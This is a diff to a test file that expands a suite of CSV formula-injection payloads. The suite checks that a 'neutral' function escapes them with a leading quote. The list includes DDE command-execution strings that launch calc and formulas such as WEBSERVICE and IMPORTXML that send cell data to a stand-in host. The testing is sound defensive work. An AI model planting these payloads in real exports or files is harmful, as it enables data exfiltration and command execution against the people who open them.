@@ -101,7 +101,16 @@ describe('cells', () => {
         expect(Papa.parse<string[]>(csvTable(square).slice(1), { newline: '\r\n', delimiter: ',' }).data.slice(0, -1)).toEqual(square)
       }),
     )
-    for (const payload of ['=HYPERLINK("http://x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', "=cmd|' /C calc'!A0", "'=1"]) expect(neutral(payload)[0]).toBe("'")
+    const payloads = [
+      '=HYPERLINK("http://x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', "=cmd|' /C calc'!A0", "'=1", "''=1", '=1+1', '=', '+', '-', '@', '\t', '\r',
+      '=IMPORTXML("http://x","//a")', '=WEBSERVICE("http://x/"&A1)', '=DDE("cmd";"/C calc";"x")', "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+      '=IMAGE("http://x")', '=FILTERXML(A1,"//x")', '\t+1', '\r-1', '\t@x', '=\n1', '-1;=2', '+44 20 7946 0000', '=IF(1,HYPERLINK("http://x"))', '=INDIRECT("A1")', "'+1", "'\t=1",
+    ]
+    expect(payloads.length).toBeGreaterThanOrEqual(30)
+    for (const payload of payloads) {
+      expect(neutral(payload)[0]).toBe("'")
+      expect(csvTable([[neutral(payload), 'x']]), 'also inside quotation marks').toMatch(/^\uFEFF"?'/)
+    }
   })
 })
 
